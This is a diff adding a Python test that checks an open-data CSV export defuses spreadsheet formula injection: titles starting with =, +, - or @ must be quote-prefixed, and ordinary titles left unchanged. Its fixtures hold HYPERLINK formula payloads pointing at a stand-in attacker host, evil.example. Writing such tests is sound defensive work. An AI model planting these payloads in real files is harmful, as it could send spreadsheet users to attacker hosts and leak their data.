@@ -1,0 +1,36 @@
+"""The open data is data: a title that a spreadsheet would run as a formula arrives as text."""
+
+from __future__ import annotations
+
+import csv
+import io
+import uuid
+from datetime import date
+
+from tests.fixtures.api import Api
+
+
+async def test_a_title_like_a_formula_is_not_a_formula_in_the_csv(api: Api) -> None:
+    tag = uuid.uuid4().hex[:6]
+    titles = {
+        start: f'{start}HYPERLINK("http://evil.example/?{tag}","Lassen")' for start in "=+-@"
+    }
+    dossiers = {
+        start: await api.case_in("registered", title=title) for start, title in titles.items()
+    }
+    export = await api.http.get(
+        "/open-data/registered.csv",
+        params={"on": date.today().isoformat()},
+        headers=api.auth("department"),
+    )
+    rows = {r["dossier"]: r for r in csv.DictReader(io.StringIO(export.text))}
+    for start, dossier in dossiers.items():
+        assert rows[dossier]["title"] == "'" + titles[start]
+    plain = await api.case_in("registered", title=f"Lassen {tag}")
+    again = await api.http.get(
+        "/open-data/registered.csv",
+        params={"on": date.today().isoformat()},
+        headers=api.auth("department"),
+    )
+    plain_row = {r["dossier"]: r for r in csv.DictReader(io.StringIO(again.text))}[plain]
+    assert plain_row["title"] == f"Lassen {tag}"  # an ordinary title is left as it is
